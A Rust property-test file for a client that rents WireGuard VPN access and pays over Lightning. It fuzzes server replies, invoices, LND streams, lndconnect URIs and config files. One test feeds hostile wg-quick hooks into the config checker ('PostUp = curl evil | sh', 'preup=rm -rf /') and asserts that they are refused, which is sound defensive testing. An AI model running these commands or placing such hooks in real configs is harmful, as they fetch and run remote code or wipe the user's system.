//! Property tests: everything the client reads from outside (server replies, BOLT11 strings,
//! its node's streamed replies, lndconnect URIs, its config file) never panics and is either
//! accepted or refused with an error.

use crate::api::{check_config, parse_reply, ApiError};
use proptest::prelude::*;
use staticwire_api as api;

/// Bytes that are often almost JSON: random JSON values, mangled.
fn jsonish() -> impl Strategy<Value = Vec<u8>> {
    let leaf = prop_oneof![
        Just(serde_json::Value::Null),
        any::<bool>().prop_map(serde_json::Value::from),
        any::<i64>().prop_map(serde_json::Value::from),
        any::<f64>().prop_map(|f| serde_json::json!(f)),
        ".{0,40}".prop_map(serde_json::Value::from),
    ];
    let value = leaf.prop_recursive(4, 64, 8, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..8).prop_map(serde_json::Value::from),
            prop::collection::hash_map(
                prop_oneof![
                    Just("error".to_string()),
                    Just("code".to_string()),
                    Just("public_key".to_string()),
                    Just("state".to_string()),
                    Just("result".to_string()),
                    "[a-z_]{1,12}"
                ],
                inner,
                0..8
            )
            .prop_map(|m| serde_json::Value::Object(m.into_iter().collect())),
        ]
    });
    prop_oneof![
        value.clone().prop_map(|v| serde_json::to_vec(&v).unwrap()),
        (value, any::<usize>(), any::<u8>()).prop_map(|(v, at, b)| {
            let mut bytes = serde_json::to_vec(&v).unwrap();
            let at = at % (bytes.len() + 1);
            bytes.insert(at, b);
            bytes.truncate(at + 1 + (b as usize % 8));
            bytes
        }),
        prop::collection::vec(any::<u8>(), 0..300),
    ]
}

fn key_b64() -> impl Strategy<Value = String> {
    use base64::Engine;
    prop_oneof![
        prop::array::uniform32(any::<u8>())
            .prop_map(|k| base64::engine::general_purpose::STANDARD.encode(k)),
        ".{0,50}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn server_replies_never_panic(status in prop_oneof![Just(200u16), Just(201), 100u16..600], body in jsonish()) {
        let _ = parse_reply::<api::Terms>(status, &body);
        let _ = parse_reply::<api::InvoiceResponse>(status, &body);
        let _ = parse_reply::<api::Rental>(status, &body);
        let _ = parse_reply::<api::Invoice>(status, &body);
        match parse_reply::<api::ConfigResponse>(status, &body) {
            Ok(c) => { let _ = check_config(&c); }
            Err(ApiError::Refused { status: s, message, .. }) => {
                prop_assert_eq!(s, status);
                prop_assert!(message.chars().count() <= 500);
            }
            Err(_) => {}
        }
    }

    #[test]
    fn configs_from_the_server_are_checked(
        key in key_b64(),
        address in prop_oneof![Just("203.0.113.7".to_string()), ".{0,20}"],
        endpoint in prop_oneof![Just("vpn.example.net:51820".to_string()), ".{0,40}"],
        extra in prop_oneof![
            Just(String::new()),
            Just("PostUp = curl evil | sh".to_string()),
            Just("preup=rm -rf /".to_string()),
            Just("Table = off".to_string()),
            "[A-Za-z]{1,12} = .{0,20}",
        ],
    ) {
        let wg_quick = format!(
            "[Interface]\n# PrivateKey = <yours>\nAddress = {address}/32\n{extra}\n\n[Peer]\nPublicKey = {key}\nEndpoint = {endpoint}\nAllowedIPs = 0.0.0.0/0\n"
        );
        let c = api::ConfigResponse {
            wg_quick,
            address: address.clone(),
            endpoint: endpoint.clone(),
            server_public_key: key.clone(),
            allowed_ips: vec!["0.0.0.0/0".into()],
            networks: vec![],
            persistent_keepalive: 25,
        };
        let verdict = check_config(&c);
        let lower = extra.to_ascii_lowercase();
        if lower.contains("post") || lower.contains("pre") || lower.starts_with("table") {
            prop_assert!(verdict.is_err(), "a hook was let through: {extra}");
        }
        if verdict.is_ok() {
            prop_assert!(address.parse::<std::net::Ipv4Addr>().is_ok());
            prop_assert!(!endpoint.contains('\n'));
        }
    }

    #[test]
    fn bolt11_strings_never_panic(s in prop_oneof![
        ".{0,200}",
        "ln(bc|tb|bcrt|tbs)[0-9]{0,6}[munp]?1[02-9ac-hj-np-z]{0,300}",
    ]) {
        let terms = api::Terms {
            activation_sat: 48_000, monthly_sat: 24_000, first_payment_sat: 72_000,
            month_seconds: 2_592_000, reservation_seconds: 5_184_000, invoice_expiry_seconds: 3600,
            max_months: 12, network: "regtest".into(), servers: vec![], tls_fingerprint: None, payee: None,
            ipv4_prefix_lengths: vec![32], address_monthly_sat: 0, ipv6_monthly_sat: 0, ipv6_only_monthly_sat: None, proof_key: None, reverse_dns: false,
        };
        let view = api::Invoice {
            payment_hash: "00".repeat(32), bolt11: s.clone(), amount_sat: 72_000,
            purpose: api::InvoicePurpose::Activation, months: 1, state: api::InvoiceState::Open,
            created_at: 0, expires_at: 3600, settled_at: None,
        };
        prop_assert!(crate::invoice::check(&s, &view, &terms, crate::invoice::Action::Rent, 0).is_err());
    }

    #[test]
    fn lnd_stream_lines_never_panic(line in jsonish(), status in prop_oneof![Just(200u16), 100u16..600]) {
        let _ = crate::pay::lnd::update(&line, status);
    }

    #[test]
    fn lndconnect_uris_never_panic(uri in prop_oneof![
        ".{0,120}",
        "lndconnect://[a-z0-9.]{0,20}(:[0-9]{0,6})?\\?(cert=[A-Za-z0-9_-]{0,60})?&?(macaroon=[A-Za-z0-9_-]{0,60})?",
    ]) {
        let _ = crate::pay::lnd::parse_lndconnect(&uri);
    }

    #[test]
    fn config_files_never_panic(text in prop_oneof![
        ".{0,200}",
        "\\[(autopay|lnd|cln)\\]\n[a-z_]{1,20} = (\"[^\"]{0,30}\"|[0-9]{1,25}|true)\n",
    ]) {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("config.toml");
        std::fs::write(&path, &text).unwrap();
        let _ = crate::pay::PayConfig::load(&path);
        let _ = crate::pay::check_preimage(&text, &"00".repeat(32));
    }
}
